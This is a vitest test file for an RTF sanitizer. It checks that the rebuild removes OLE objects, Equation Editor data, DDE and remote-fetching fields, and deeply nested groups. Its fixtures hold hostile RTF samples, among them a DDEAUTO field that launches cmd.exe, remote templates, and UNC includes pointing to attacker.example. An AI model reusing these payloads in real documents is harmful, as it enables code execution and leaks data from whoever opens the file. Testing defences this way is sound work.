import {
  buildEmf,
  buildWmf,
  buildImage,
  buildRtf,
  equationObject,
  obfuscatedHex,
  ole2LinkObject,
  rtfField,
  rtfHex,
  rtfPicture,
} from '@disarm/fixtures';
import { describe, expect, it } from 'vitest';

import { disarm } from '../../disarm.ts';
import { formatForFileName, FORMATS } from '../../formats.ts';
import type { Outcome } from '../../outcome.ts';
import type { DetectedFile } from '../types.ts';
import { encodeBmp } from '../image/bmp/encode.ts';
import { MAX_GROUP_DEPTH } from './rebuild.ts';
import { verifyRtf } from './verify.ts';
import { RtfTokenizer } from './tokenize.ts';

const TEXTS = ['Quarterly numbers are up', 'Second paragraph'];

/** The input side of a verify call (verify reads only the output). */
const rtfInput = (bytes: Uint8Array): DetectedFile => ({
  bytes,
  fileName: 'f.rtf',
  format: formatForFileName('f.rtf') ?? FORMATS[0]!,
});

async function clean(bytes: Uint8Array): Promise<{ text: string; outcome: Outcome }> {
  const outcome = await disarm({ bytes, fileName: 'f.rtf' });
  if (outcome.status !== 'cleaned') {
    throw new Error(`rejected: ${outcome.reason}: ${outcome.detail}`);
  }
  return { text: Buffer.from(outcome.bytes).toString('latin1'), outcome };
}

function kinds(outcome: Outcome): Record<string, number> {
  if (outcome.status !== 'cleaned') return {};
  return Object.fromEntries(outcome.findings.map((finding) => [finding.kind, finding.count]));
}

/** The document's visible text as the tokenizer reads it: text outside `\*` destinations. */
function visibleText(bytes: Uint8Array): string {
  const tokens = new RtfTokenizer(bytes);
  const skipped: boolean[] = [false];
  let text = '';
  let fresh = false;
  for (let token = tokens.next(); token; token = tokens.next()) {
    if (token.kind === 'open') {
      skipped.push(skipped.at(-1) ?? false);
      fresh = true;
      continue;
    }
    if (token.kind === 'close') skipped.pop();
    else if (token.kind === 'symbol' && token.symbol === '*' && fresh)
      skipped[skipped.length - 1] = true;
    else if (
      token.kind === 'word' &&
      fresh &&
      ['fonttbl', 'colortbl', 'stylesheet', 'info', 'pict'].includes(token.name)
    ) {
      skipped[skipped.length - 1] = true;
    } else if (token.kind === 'word' && token.name === 'par' && !skipped.at(-1)) text += '\n';
    else if (token.kind === 'text' && !skipped.at(-1))
      text += Buffer.from(token.bytes).toString('latin1');
    fresh = false;
  }
  return text.replace(/[ \t]+/g, ' ').trim();
}

describe('RTF rebuild', () => {
  it('keeps a clean document as Word writes it, with nothing to report', async () => {
    const input = buildRtf({ texts: TEXTS });
    const { text, outcome } = await clean(input);
    expect(kinds(outcome)).toEqual({});
    expect(visibleText(Buffer.from(text))).toBe(visibleText(input));
    expect(text).toContain('{\\fonttbl');
    expect(text).toContain('{\\info{\\title Report}{\\author Alice Example}');
  });

  it('is deterministic and idempotent: a rebuilt document comes back byte-identical', async () => {
    const input = buildRtf({
      texts: TEXTS,
      body: `${equationObject({ result: 'x' })}${rtfPicture('emfblip', buildEmf())}`,
    });
    const first = await clean(input);
    const again = await clean(input);
    expect(again.text).toBe(first.text);
    const second = await clean(Buffer.from(first.text, 'latin1'));
    expect(second.text).toBe(first.text);
    expect(kinds(second.outcome)).toEqual({});
  });

  it('removes an Equation Editor object and its data, keeping its result', async () => {
    const input = buildRtf({ texts: TEXTS, body: equationObject({ result: 'E = mc2' }) });
    expect(input.toString('latin1')).toContain('\\objdata');
    const { text, outcome } = await clean(input);
    expect(kinds(outcome)).toEqual({ 'embedded-object': 1 });
    expect(text).not.toMatch(/\\object|\\objdata|\\objclass|d0cf11e0|0105000002000000/i);
    expect(visibleText(Buffer.from(text))).toContain('E = mc2');
  });

  it('removes an auto-updating OLE2Link object as an external link, keeping its result', async () => {
    const { text, outcome } = await clean(buildRtf({ texts: TEXTS, body: ole2LinkObject() }));
    expect(kinds(outcome)).toEqual({ 'external-relationship': 1 });
    expect(text).not.toMatch(/objautlink|objupdate|\\object/);
    expect(text).toContain('Linked text');
  });

  it('removes object data, templates and data stores wherever they are', async () => {
    const input = buildRtf({
      texts: TEXTS,
      header:
        '{\\*\\template http://attacker.example/t.dotm}{\\*\\datastore 0105000002000000}' +
        '{\\*\\passwordhash 2c000000}',
      // Object data outside any object, and an object hidden inside a formatting group.
      body: '{\\*\\objdata 0105000002000000d0cf11e0}{\\b bold {\\i \\object\\objemb{\\*\\objdata 01}}}',
    });
    const { text, outcome } = await clean(input);
    expect(kinds(outcome)).toEqual({
      'document-metadata': 1,
      'embedded-object': 2,
      'external-relationship': 1,
      'hidden-data': 1,
    });
    expect(text).not.toMatch(/template|attacker|datastore|objdata|passwordhash|0105/);
    expect(text).toContain('bold');
  });

  it('neutralises DDE and fetching fields, keeping their result text; safe fields stay', async () => {
    const input = buildRtf({
      texts: TEXTS,
      body: [
        rtfField('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', 'dde result'),
        rtfField('INCLUDEPICTURE "http://attacker.example/p.png" \\d', 'picture result'),
        rtfField('INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\a.docx"', 'include result'),
        rtfField('HYPERLINK "https://example.com/"', 'link result'),
        rtfField('HYPERLINK "file:///c:/windows/system32/calc.exe"', 'file link'),
        rtfField(' PAGE ', '1'),
      ].join('\\par '),
    });
    const { text, outcome } = await clean(input);
    expect(kinds(outcome)).toEqual({ 'dde-link': 1, 'external-relationship': 3 });
    expect(text).not.toMatch(/DDEAUTO|INCLUDE|attacker|calc\.exe/);
    expect(text).toContain('HYPERLINK "https://example.com/"');
    expect(text).toContain('PAGE');
    const visible = visibleText(Buffer.from(text));
    for (const result of [
      'dde result',
      'picture result',
      'include result',
      'link result',
      'file link',
    ]) {
      expect(visible).toContain(result);
    }
  });

  it('neutralises a field whose instruction is split over groups and escapes', async () => {
    const input = buildRtf({
      texts: TEXTS,
      body: "{\\field{\\*\\fldinst {\\b DD}{E\\'41UTO} c:\\\\a.exe}{\\fldrslt shown}}",
    });
    const { text, outcome } = await clean(input);
    expect(kinds(outcome)).toEqual({ 'dde-link': 1 });
    expect(text).not.toContain('fldinst');
    expect(text).toContain('shown');
  });

  it("keeps a shape's result and the text of a text box, not the shape", async () => {
    const shape =
      '{\\shp{\\*\\shpinst\\shpleft0\\shptop0{\\sp{\\sn shapeType}{\\sv 202}}' +
      '{\\sp{\\sn pibName}{\\sv \\\\\\\\attacker.example\\\\p.png}}' +
      '{\\shptxt \\pard Here is a text box\\par}}' +
      '{\\shprslt{\\*\\do\\dobxcolumn{\\*\\dptxbxtext \\pard Here is a text box\\par}}}}';
    const { text, outcome } = await clean(buildRtf({ texts: TEXTS, body: shape }));
    expect(kinds(outcome)).toEqual({});
    expect(text.match(/Here is a text box/g)).toHaveLength(1);
    expect(text).not.toMatch(/shp|attacker|\\do\b/);
  });

  it('keeps nested tables as Word writes them, without the copy for older readers', async () => {
    const table =
      '\\pard\\intbl\\itap2 inner\\nestcell{\\*\\nesttableprops\\trowd\\cellx2000\\nestrow}' +
      '{\\nonesttables \\par }\\pard\\intbl\\itap1 outer\\cell\\trowd\\cellx4000\\row';
    const { text, outcome } = await clean(buildRtf({ texts: TEXTS, body: table }));
    expect(kinds(outcome)).toEqual({});
    expect(text).toContain('{\\*\\nesttableprops\\trowd\\cellx2000\\nestrow}');
    expect(text).not.toContain('nonesttables');
  });

  it('removes a field whose instruction holds a destination, whatever the instruction', async () => {
    for (const [instruction, kind] of [
      ['DDEAUTO c:\\\\a.exe \\objdata 0105', { 'dde-link': 1, 'embedded-object': 1 }],
      ['PAGE {\\b \\object\\objemb}', { 'embedded-object': 1, 'hidden-data': 1 }],
    ] as const) {
      const input = buildRtf({
        texts: TEXTS,
        body: `{\\field{\\*\\fldinst ${instruction}}{\\fldrslt shown}}`,
      });
      const { text, outcome } = await clean(input);
      expect(kinds(outcome), instruction).toEqual(kind);
      expect(text).not.toMatch(/fldinst|DDEAUTO|PAGE|object/);
      expect(text).toContain('shown');
    }
  });

  it('rebuilds pictures through the image and metafile handlers', async () => {
    const png = await buildImage('png', { width: 16, height: 16, exif: { Artist: 'secret' } });
    const emf = buildEmf({ comment: 'secret comment' });
    const input = buildRtf({
      texts: TEXTS,
      body: `${rtfPicture('pngblip', png)}${rtfPicture('emfblip', emf)}`,
    });
    const { text, outcome } = await clean(input);
    expect(kinds(outcome)).toMatchObject({ 'image-metadata': 1 });
    const pictures = [...text.matchAll(/\{\\pict[^\n]*\\(pngblip|emfblip)\n([0-9a-f\n]+)\}/g)];
    expect(pictures.map((match) => match[1])).toEqual(['pngblip', 'emfblip']);
    const rebuiltPng = Buffer.from((pictures[0]?.[2] ?? '').replace(/\n/g, ''), 'hex');
    expect(rebuiltPng.subarray(0, 4).toString('latin1')).toBe('\x89PNG');
    expect(rebuiltPng.toString('latin1')).not.toContain('secret');
    expect(rebuiltPng.equals(png)).toBe(false);
  });

  it('reads picture data obfuscated with case, white space and empty groups, or given raw by \\bin', async () => {
    const png = await buildImage('png', { width: 16, height: 16 });
    const obfuscated = `{\\pict\\picw16\\pich16\\pngblip ${obfuscatedHex(png)}}`;
    const binary = Buffer.concat([
      Buffer.from(`{\\pict\\picw16\\pich16\\pngblip\\bin${png.length} `, 'latin1'),
      png,
      Buffer.from('}', 'latin1'),
    ]).toString('latin1');
    for (const body of [obfuscated, binary]) {
      const { text, outcome } = await clean(buildRtf({ texts: TEXTS, body }));
      expect(kinds(outcome)).toEqual({});
      expect(text).toMatch(/\{\\pict\\picw16\\pich16\\pngblip\n89504e47/);
      expect(text).not.toContain('\\bin');
    }
  });

  it('rebuilds Windows metafile and DIB pictures in the form RTF stores them', async () => {
    const bmp = encodeBmp({ width: 3, height: 2, channels: 3, data: new Uint8Array(18).fill(90) });
    const dib = bmp.subarray(14);
    const wmf = buildWmf();
    const input = buildRtf({
      texts: TEXTS,
      body:
        `{\\pict\\picw3\\pich2\\wmetafile8 ${rtfHex(wmf)}}` +
        `{\\pict\\picw3\\pich2\\dibitmap0 ${rtfHex(dib)}}`,
    });
    const { text, outcome } = await clean(input);
    expect(kinds(outcome)).toEqual({});
    const pictures = [...text.matchAll(/\{\\pict[^\n]*\\(wmetafile8|dibitmap0)\n([0-9a-f\n]+)\}/g)];
    expect(pictures.map((match) => match[1])).toEqual(['wmetafile8', 'dibitmap0']);
    const data = pictures.map((match) => Buffer.from((match[2] ?? '').replace(/\n/g, ''), 'hex'));
    // RTF 1.9.1: `\wmetafile` data has no placeable header; `\dibitmap` data no file header.
    expect(data[0]?.readUInt32LE(0)).not.toBe(0x9ac6cdd7);
    expect(data[0]?.readUInt16LE(2)).toBe(9);
    expect(data[1]?.readUInt32LE(0)).toBe(40);
    expect(data[1]?.readInt32LE(4)).toBe(3);
  });

  it('drops a picture it cannot rebuild, and says so', async () => {
    const png = await buildImage('png', { width: 16, height: 16 });
    const damaged = Buffer.from(png).subarray(0, 40);
    for (const body of [
      `{\\pict\\pngblip ${rtfHex(damaged)}}`,
      `{\\pict\\macpict ${rtfHex(png)}}`,
      `{\\pict\\pngblip 89504e47zz${rtfHex(png)}}`,
    ]) {
      const { text, outcome } = await clean(buildRtf({ texts: TEXTS, body }));
      expect(kinds(outcome), body.slice(0, 20)).toEqual({ 'hidden-data': 1 });
      expect(text).not.toContain('\\pict');
    }
  });

  it('accepts the header variants Word opens and writes {\\rtf1', async () => {
    for (const header of ['{\\rtf', '{\\rtf1', '{\\rtfjunk', '{\\rtf2']) {
      const input = Buffer.from(
        `${header}\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Hello\\par}`,
        'latin1',
      );
      const { text } = await clean(input);
      expect(text.startsWith('{\\rtf1\\ansi'), header).toBe(true);
      expect(text).toContain('Hello');
    }
  });

  it('closes groups left open at the end, as Word and LibreOffice do, and drops what follows the end', async () => {
    const open = await clean(Buffer.from('{\\rtf1\\ansi{\\b Hello\\par', 'latin1'));
    expect(open.text).toBe('{\\rtf1\\ansi{\\b Hello\\par\n}}');
    const after = await clean(Buffer.from('{\\rtf1\\ansi Hello\\par}{\\object payload}', 'latin1'));
    expect(kinds(after.outcome)).toEqual({ 'trailing-data': 1 });
    expect(after.text).not.toContain('payload');
  });

  it('leaves out over-long and unknown control words, and symbols that are not text', async () => {
    const long = `\\${'x'.repeat(5000)}`;
    const input = Buffer.from(`{\\rtf1\\ansi ${long} Hello\\ob\\'6aect more\\par}`, 'latin1');
    const { text } = await clean(input);
    expect(text).not.toContain('xxxx');
    expect(text).toContain('Hello');
    expect(text).not.toMatch(/\\ob(?!ject)|\\object/);
  });

  it(`refuses groups nested deeper than ${MAX_GROUP_DEPTH} levels, even 50 000 deep`, async () => {
    for (const depth of [MAX_GROUP_DEPTH + 1, 50_000]) {
      const bytes = Buffer.from(`{\\rtf1${'{'.repeat(depth)}x${'}'.repeat(depth)}}`, 'latin1');
      const outcome = await disarm({ bytes, fileName: 'f.rtf' });
      expect(outcome).toMatchObject({
        status: 'rejected',
        reason: 'policy_violation',
        detail: `groups nest deeper than ${MAX_GROUP_DEPTH} levels`,
      });
    }
    const fits = `{\\rtf1${'{'.repeat(MAX_GROUP_DEPTH - 1)}x${'}'.repeat(MAX_GROUP_DEPTH - 1)}}`;
    expect((await clean(Buffer.from(fits, 'latin1'))).text).toContain('x');
  });

  it('streams through a 16 MB hex run of object data and keeps none of it', async () => {
    const run = 'd0cf11e0a1b11ae1'.repeat(1 << 20);
    const input = buildRtf({ texts: TEXTS, body: `{\\object\\objemb{\\*\\objdata ${run}}}` });
    const { text, outcome } = await clean(input);
    expect(kinds(outcome)).toEqual({ 'embedded-object': 1 });
    expect(text.length).toBeLessThan(2000);
  });

  it('rejects what is corrupt with the precise reason', async () => {
    const cases: [string, RegExp][] = [
      ['{\\rtf1 {\\pict\\bin999999 abc}}', /\\bin run of 999999 bytes .* runs past the end/],
      ['{\\rtf1 \\fs99999999999 x}', /parameter of \\fs .* too long/],
      ['{\\rtf1 \\fs9999999999 x}', /parameter of \\fs .* out of range/],
    ];
    for (const [rtf, detail] of cases) {
      const outcome = await disarm({ bytes: Buffer.from(rtf, 'latin1'), fileName: 'f.rtf' });
      expect(outcome).toMatchObject({ status: 'rejected', reason: 'invalid_file' });
      expect(outcome.status === 'rejected' ? outcome.detail : '').toMatch(detail);
    }
  });

  it('keeps the information group to the fields OOXML core properties keep', async () => {
    const input = buildRtf({
      texts: TEXTS,
      header: '{\\*\\userprops {\\propname Secret}\\proptype30{\\staticval 1}}',
    });
    const withHidden = Buffer.from(
      input
        .toString('latin1')
        .replace(
          '{\\info',
          '{\\info{\\*\\hlinkbase \\\\\\\\attacker.example\\\\x}{\\doccomm note}',
        ),
      'latin1',
    );
    const { text, outcome } = await clean(withHidden);
    expect(kinds(outcome)).toEqual({ 'external-relationship': 1 });
    expect(text).toContain('{\\doccomm note}');
    expect(text).not.toMatch(/hlinkbase|attacker|Secret/);
  });
});

describe('RTF structures the fuzzer found (npm run fuzz -- rtf)', () => {
  const twice = async (bytes: Uint8Array): Promise<{ first: string; second: string }> => {
    const first = await clean(bytes);
    const second = await clean(Buffer.from(first.text, 'latin1'));
    expect(kinds(second.outcome)).toEqual({});
    return { first: first.text, second: second.text };
  };

  it('writes a neutralised field so that its output rebuilds to itself, its text apart from the word before', async () => {
    // The neutralised field left `{{{x}}}`, which the next pass wrote as `{x}`.
    const { first, second } = await twice(
      Buffer.from(
        '{\\rtf1\\ansi \\b{\\field{\\*\\fldinst {DDEAUTO cmd}}{\\fldrslt {x}}}text\\par}',
        'latin1',
      ),
    );
    expect(second).toBe(first);
    expect(first).toBe('{\\rtf1\\ansi\\b{x}text\\par\n}');
    const empty = await twice(
      Buffer.from('{\\rtf1\\ansi \\b{\\field{\\*\\fldinst DDEAUTO cmd}}text\\par}', 'latin1'),
    );
    expect(empty.first).toBe('{\\rtf1\\ansi\\b text\\par\n}');
  });

  it('writes a result group outside a field, and a kept child of an object, as plain groups that rebuild to themselves', async () => {
    for (const body of [
      '{\\fldrslt {link}}text',
      '{\\object\\objemb{\\*\\objdata 0105}{\\result {shown}}}text',
    ]) {
      const { first, second } = await twice(Buffer.from(`{\\rtf1\\ansi ${body}\\par}`, 'latin1'));
      expect(second, body).toBe(first);
    }
  });

  it('writes a tab character as \\tab with a delimiting space only where text would run on', async () => {
    // `\tab ` was always followed by a space, which the next pass left out before `\'a6`.
    const { first, second } = await twice(Buffer.from('{\\rtf1\\ansi a\t\xa6b\tc\\par}', 'latin1'));
    expect(first).toBe("{\\rtf1\\ansi a\\tab\\'a6b\\tab c\\par\n}");
    expect(second).toBe(first);
  });

  it('judges a field instruction in verify as the rebuild does: through its nested groups', async () => {
    // The rebuild read `HYPERLINK "…"` in a nested group and `tail` after it as one instruction
    // and kept it; verify judged only `tail`, refused its own output, and would have passed a
    // DDEAUTO written wholly inside a nested group.
    const kept = await clean(
      Buffer.from(
        '{\\rtf1\\ansi{\\field{\\*\\fldinst{HYPERLINK "https://a.example/"}tail}{\\fldrslt x}}\\par}',
        'latin1',
      ),
    );
    expect(kept.text).toContain('HYPERLINK');
    const nested = Buffer.from(
      '{\\rtf1{\\field{\\*\\fldinst{DDEAUTO cmd}}{\\fldrslt x}}}',
      'latin1',
    );
    await expect(
      verifyRtf({ bytes: nested, findings: [] }, rtfInput(nested)),
    ).rejects.toMatchObject({
      check: 'rtf.field',
    });
  });

  it('keeps text that follows the header apart from \\rtf1', async () => {
    // `{\rtf1` then `2024` was written `{\rtf12024`, which the next pass refused.
    const { first, second } = await twice(Buffer.from('{\\rtf1 2024 figures\\par}', 'latin1'));
    expect(first).toBe('{\\rtf1 2024 figures\\par\n}');
    expect(second).toBe(first);
  });

  it('drops an information field written loose in the information group', async () => {
    // `\creatim` outside its own group was written as a bare word, which verify refuses.
    const { first } = await twice(
      Buffer.from('{\\rtf1\\ansi{\\info{\\title T}\\creatim\\yr2024}text\\par}', 'latin1'),
    );
    expect(first).not.toContain('creatim');
    expect(first).toContain('{\\info{\\title T}}');
  });

  it('removes a field whose instruction opens a destination group, as one holding a destination word', async () => {
    // The instruction was judged with the destination's text and kept; verify judged the text
    // left outside it and refused its own output.
    const input = Buffer.from(
      '{\\rtf1\\ansi{\\field{\\*\\fldinst {HYPERLINK "https://a.example/"{\\title T}}rest}{\\fldrslt shown}}\\par}',
      'latin1',
    );
    const { text, outcome } = await clean(input);
    expect(kinds(outcome)).toEqual({ 'hidden-data': 1 });
    expect(text).not.toMatch(/fldinst|HYPERLINK|title/);
    expect(text).toContain('shown');
  });
});
